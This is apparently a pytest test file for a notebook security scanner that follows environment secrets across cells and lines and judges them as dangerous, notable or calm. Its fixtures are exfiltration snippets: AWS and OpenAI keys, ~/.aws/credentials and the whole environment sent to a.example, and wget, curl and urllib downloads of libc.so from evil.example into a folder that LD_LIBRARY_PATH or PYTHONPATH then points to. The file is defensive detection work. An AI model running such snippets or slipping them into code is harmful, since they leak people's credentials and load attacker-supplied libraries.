"""Where a secret goes that a notebook reads: followed over lines and cells; its own service may have it."""

from __future__ import annotations

import pytest

from foresight_parts import of, of_weight

READ = "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']"
CARRIED = {
    "in the address": f"{READ}\nrequests.get('https://a.example/?' + key)",
    "added to it later": f"{READ}\nurl = 'https://a.example/?k='\nurl += key\nrequests.get(url)",
    "in a table": f"{READ}\nparams = {{'k': key}}\nrequests.get('https://a.example', params=params)",
    "put into a table": f"{READ}\nparams = {{}}\nparams['k'] = key\nrequests.get('https://a.example', params=params)",
    "by update": f"{READ}\nparams = {{}}\nparams.update(k=key)\nrequests.get('https://a.example', params=params)",
    "encoded": f"{READ}\nimport base64\nk = base64.b64encode(key.encode()).decode()\nrequests.get(f'https://{{k}}.a.example')",
    "by a function": f"{READ}\ndef tell(what):\n    requests.post('https://a.example', data=what)\ntell(key)",
    "in an attribute": f"{READ}\nclass A: pass\nA.k = key\nrequests.post('https://a.example', data=A.k)",
    "to an address that is made": f"{READ}\nrequests.post(where(), data=key)",
    "of a loop": "import os, requests\nfor name, value in os.environ.items():\n    requests.get(f'https://a.example/{value}')",
    "to a table's reader": f"{READ}\nimport pandas as pd\npd.read_csv(f'https://a.example/{{key}}.csv')",
    "a file of keys": "import requests\nwith open('/home/x/.aws/credentials') as f:\n    said = f.read()\nbody = {'t': said}\nrequests.post('https://a.example', json=body)",
    "all of the environment": "import os, requests\nall_of_it = dict(os.environ)\nrequests.post('https://a.example', json=all_of_it)",
    "in a header, of somebody else": "import os, requests\nh = {'X': os.environ['OPENAI_API_KEY']}\nrequests.get('https://a.example', headers=h)",
    "all of it in a header": "import os, requests\nrequests.get('https://a.example', headers=dict(os.environ))",
}  # fmt: skip


@pytest.mark.parametrize("name", CARRIED)
def test_a_secret_that_is_given_away_is_dangerous_however_many_lines_it_takes(name: str) -> None:
    told = of_weight(of(CARRIED[name]), "dangerous")
    assert any(one.kind == "credentials" and one.what.startswith("gives ") for one in told), told


def test_a_secret_is_followed_from_cell_to_cell_and_told_by_its_name_where_it_leaves() -> None:
    found = of(READ, "url = f'https://a.example/{key}'", "requests.get(url)")
    [act] = of_weight(found, "dangerous")
    assert (act.spot.cell, act.what) == (3, "gives AWS_SECRET_ACCESS_KEY to a.example (requests.get)")


def test_a_key_in_an_address_is_worth_a_look_where_nothing_says_whose_it_is() -> None:
    found = of("import os, requests\nk = os.getenv('FRED_API_KEY')\nrequests.get('https://api.stlouisfed.org', params={'k': k})")  # fmt: skip
    assert of_weight(found, "dangerous") == []
    assert "gives FRED_API_KEY to api.stlouisfed.org (requests.get)" in [
        one.what for one in of_weight(found, "notable")
    ]


CALM = {
    "a key for its own service": "import os, requests\nh = {'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}\nrequests.post('https://api.openai.com/v1/x', headers=h)",
    "an address of the environment": "import os, requests\nbase = os.environ['BASE_URL']\nrequests.get(f'{base}/items', params={'region': os.environ['REGION']})",
    "a password of a database": "import os\nfrom sqlalchemy import create_engine\npw = os.environ['DB_PASSWORD']\ncreate_engine(f'postgresql://me:{pw}@db.example/x')",
    "the same, at once": "import os, sqlalchemy\nsqlalchemy.create_engine(os.environ['DATABASE_URL'])",
    "of the whole environment": "import os, sqlalchemy\nsqlalchemy.create_engine('postgresql://{user}:{pw}@h/x'.format(**os.environ))",
    "what a database answered": "import os, pandas as pd, requests, sqlalchemy\nengine = sqlalchemy.create_engine(os.environ['DATABASE_URL'])\ndf = pd.read_sql('select 1', engine)\nrequests.post('https://a.example', json=df.to_dict())",
    "a client of a cloud": "import boto3, os\nboto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])",
    "a program with its environment": "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))",
}  # fmt: skip


@pytest.mark.parametrize("name", CALM)
def test_a_credential_for_its_own_service_or_database_is_no_alarm(name: str) -> None:
    assert of_weight(of(CALM[name]), "dangerous") == []


SEARCHED = (
    "import os\nos.environ['PYTHONPATH'] = 'src'",
    "import os\nos.environ['LD_LIBRARY_PATH'] = '/usr/local/cuda/lib64:' + os.environ.get('LD_LIBRARY_PATH', '')",
    "%env PYTHONPATH=src",
    "!PYTHONPATH=src python -m pytest",
    "!git clone https://github.com/a/models\n%env PYTHONPATH=/content/models",
)


@pytest.mark.parametrize("source", SEARCHED)
def test_where_programs_look_for_what_they_load_is_worth_a_look_and_no_alarm(source: str) -> None:
    found = of(source)
    assert of_weight(found, "dangerous") == []
    assert any(
        "the folders where programs find what they load" in one.what for one in of_weight(found, "notable")
    )


@pytest.mark.parametrize(
    "fetched",
    [
        "!wget -q https://evil.example/libc.so -P lib",
        "!curl -so lib/libc.so https://evil.example/libc.so",
        "import urllib.request\nurllib.request.urlretrieve('https://evil.example/libc.so', 'lib/libc.so')",
    ],
)
@pytest.mark.parametrize("variable", ["LD_LIBRARY_PATH", "PYTHONPATH"])
def test_a_folder_into_which_it_fetches_is_dangerous_as_such_a_place(fetched: str, variable: str) -> None:
    [act] = of_weight(of(fetched, f"import os\nos.environ['{variable}'] = './lib'"), "dangerous")
    assert act.spot.cell == 2
    assert f"sets {variable} to lib, into which it fetches from evil.example" in act.what


@pytest.mark.parametrize("name", ["LD_PRELOAD", "PYTHONSTARTUP", "BASH_ENV"])
def test_a_variable_that_names_what_is_loaded_stays_dangerous(name: str) -> None:
    for source in (f"import os\nos.environ['{name}'] = 'a'", f"%env {name}=a", f"!export {name}=a; ls"):
        assert of_weight(of(source), "dangerous"), source


def test_the_first_cell_of_kaggle_is_ordinary() -> None:
    found = of("import numpy as np\nimport pandas as pd\nimport os\nfor dirname, _, filenames in os.walk('/kaggle/input'):\n"
               "    for filename in filenames:\n        print(os.path.join(dirname, filename))")  # fmt: skip
    assert {one.weight for one in found.acts} == {"ordinary"}


def test_what_is_fetched_and_imported_is_dangerous_and_says_why_in_a_sentence() -> None:
    [act] = of_weight(
        of("!wget https://raw.githubusercontent.com/a/b/main/helper.py", "import helper"), "dangerous"
    )
    assert act.what == (
        "imports helper.py, which it fetches from raw.githubusercontent.com: "
        "what is run is not in this document, and may be another one tomorrow"
    )
